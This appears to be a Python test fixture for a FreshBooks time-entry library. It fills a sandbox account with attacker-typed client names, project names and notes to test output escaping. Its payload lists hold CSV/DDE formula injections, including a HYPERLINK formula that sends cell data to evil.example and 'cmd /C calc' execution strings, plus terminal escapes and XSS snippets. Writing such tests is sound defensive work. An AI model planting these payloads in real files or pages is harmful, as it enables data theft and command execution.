"""An account whose names and notes were typed by an attacker, served by a real sandbox.

:func:`plant` renames the sandbox's clients and projects and rewrites notes of some
entries through the sandbox's own store, so everything the tests load arrives over real
HTTP, exactly as FreshBooks would send it. The planted text is listed in :data:`CLIENTS`,
:data:`PROJECTS` and :data:`NOTES`; a :class:`HostileAccount` maps each to its id.
"""

from __future__ import annotations

from dataclasses import dataclass

import pandas as pd

import fbtime

#: Spreadsheet formulas (OWASP CSV injection): each starts with a trigger character.
FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
#: Text that starts harmless but breaks out into a new cell or row where a formula starts.
BREAKOUTS = ("ok\r=1+1", "ok;=1+1", "ok\n=1+1", 'ok","=1+1')
#: Terminal escapes: clear the screen, erase the line above, C1 CSI, bell, backspace, CR,
#: a right-to-left override (a name that reads backwards), a newline (a fake row).
TERMINAL = (
    "\x1b[2J\x1b[HAll clear",
    "\x1b[1A\x1b[2KAcme",
    "\x9b31mred",
    "ding\x07\x08\x08",
    "Globex\r     ",
    "\u202eemaN",
    "two\nlines",
)
#: Names matplotlib would read as mathtext or LaTeX; some make the draw fail outright.
CHART = ("$5 and $6", "$\\frac{1}{0}$", "\\", "^_", "a$^_$b", "$\\undefined$", "a\x00b")
HTML = ("<img src=x onerror=alert(1)>", "<script>alert('x')</script>", '"><svg onload=alert(1)>')

CLIENTS = (
    FORMULAS[0],
    FORMULAS[1],
    TERMINAL[0],
    TERMINAL[1],
    CHART[4],
    CHART[5],
    HTML[0],
    TERMINAL[5],
)
#: Two projects share a name: reports must still tell them apart.
PROJECTS = (
    '=HYPERLINK("http://evil.example/","Open")',
    FORMULAS[2],
    CHART[0],
    CHART[4],
    HTML[1],
    TERMINAL[2],
    "Website",
    "Website",
)
NOTES = (*FORMULAS, *BREAKOUTS, *TERMINAL, *HTML, "#N/A", "x" * 40_000, "")


@dataclass
class HostileAccount:
    """The sandbox, and the ids each planted text was given."""

    sandbox: fbtime.Sandbox
    clients: dict[str, int]
    projects: dict[str, int]
    notes: dict[str, int]

    def frame(self) -> pd.DataFrame:
        """Every entry, loaded over HTTP, with client and project names."""
        client = self.sandbox.client(cache=False)
        df = fbtime.load_time_entries(client, team=True)
        return df.fbtime.with_names(
            clients=fbtime.load_clients(client), projects=fbtime.load_projects(client)
        )


def plant(sb: fbtime.Sandbox) -> HostileAccount:
    """Rename every client and some projects, and rewrite notes of logged entries."""
    clients = {}
    for name, record in zip(CLIENTS, sb.dataset.clients, strict=True):
        record["organization"] = name
        clients[name] = record["id"]
    truth = sb.entries()
    busiest = truth["project_id"].value_counts().index.tolist()  # every name is then in use
    by_id = {record["id"]: record for record in sb.dataset.projects}
    projects: dict[str, int] = {}
    for name, project_id in zip(PROJECTS, busiest, strict=False):
        by_id[project_id]["title"] = name
        projects.setdefault(name, project_id)
    logged = truth[truth["active"].astype(bool) & truth["is_logged"].astype(bool)]
    notes = {}
    for note, entry_id in zip(NOTES, logged["id"].head(len(NOTES)), strict=True):
        sb.update_entry(int(entry_id), note=note)
        notes[note] = int(entry_id)
    return HostileAccount(sb, clients, projects, notes)
